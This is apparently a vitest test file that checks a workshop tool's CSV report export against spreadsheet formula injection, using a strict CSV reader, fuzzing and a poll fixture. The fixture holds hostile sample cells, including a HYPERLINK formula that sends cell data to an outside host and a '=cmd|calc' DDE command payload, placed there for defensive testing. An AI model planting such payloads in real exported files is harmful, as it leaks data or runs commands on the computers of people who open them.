import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { KINDS } from '#slides/kinds.ts';
import { csv } from '$lib/host/report/csv';
import { reportCsv } from '$lib/host/report/table';
import { cells, reportOf } from './reports.ts';

/** RFC 4180, strictly: throws at whatever a lenient reader would guess about. */
function read(text: string): string[][] {
  const body = text.replace(/^\uFEFF/, '');
  const rows: string[][] = [];
  for (const line of body.split('\r\n').slice(0, -1)) {
    const row: string[] = [];
    let rest = line;
    for (;;) {
      const [field] = /^("(?:[^"]|"")*"|\d*)(?=,|$)/.exec(rest) ?? [];
      if (field === undefined) throw new Error(`no field: ${rest}`);
      row.push(field.replace(/^"|"$/g, '').replaceAll('""', '"'));
      if (field.length === rest.length) break;
      rest = rest.slice(field.length + 1);
    }
    rows.push(row);
  }
  return rows;
}

const CALCULATES = /^\s*[=+\-@＝＋－＠]/;
const EVIL = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '"=1', 'a;=1'];
const wicked = fc
  .array(
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', ';', '|', '＝', 'a'),
    { maxLength: 8 },
  )
  .map((parts) => parts.join(''));

describe('S6: no cell is a formula', () => {
  test.each(EVIL)('%j stays text', (text) => {
    const [[cell] = []] = read(csv([[text]]));
    expect(cell).not.toMatch(CALCULATES);
    expect(cell?.replace(/'/g, '')).toBe(text.replace(/[\t\r\n]+/g, ' '));
  });

  test('whatever is typed, read strictly or split at another separator', () => {
    fc.assert(
      fc.property(fc.array(fc.array(wicked, { minLength: 1 }), { minLength: 1 }), (rows) => {
        const text = csv(rows);
        const table = read(text);
        expect(table.map((row) => row.length)).toEqual(rows.map((row) => row.length));
        for (const cell of table.flat()) expect(cell).not.toMatch(CALCULATES);
        for (const piece of text.split(/[;|\t\r\n]/)) expect(piece).not.toMatch(CALCULATES);
      }),
      { numRuns: 500 },
    );
  });

  test('harmless text and numbers are left as they are', () => {
    const row = ['Staff – or EM?', 'a, b', 'she said "yes"', '1 - 2', 'Zoë', 12, null];
    expect(read(csv([row]))).toEqual([[...row.slice(0, 5), '12', '']]);
  });

  test('a workshop whose texts all begin with a formula', () => {
    const poll = KINDS.poll.step.parse({
      kind: 'poll',
      id: 'poll',
      title: '=HYPERLINK("http://example.test/?"&A1)',
      minutes: 2.5,
      notes: 'n',
      question: 'asked',
      ask: '@SUM(1)',
      options: ['+1', '-1', '=cmd|calc'],
    });
    const report = reportOf([{ step: poll, choices: cells(0, 0, 1, 1, 2, 2) }], '=1+1');
    const table = read(reportCsv(report));
    for (const cell of table.flat()) expect(cell).not.toMatch(CALCULATES);
    expect(table.slice(1)).toEqual([
      [`'${poll.title}`, '150', '245', '', '', '', '', '', ''],
      ...["'+1", "'-1", "'=cmd|calc"].map((option) => [
        `'${poll.title}`,
        ...['', '', "'@SUM(1)", '', 'in full', option, '2', '6'],
      ]),
    ]);
  });
});
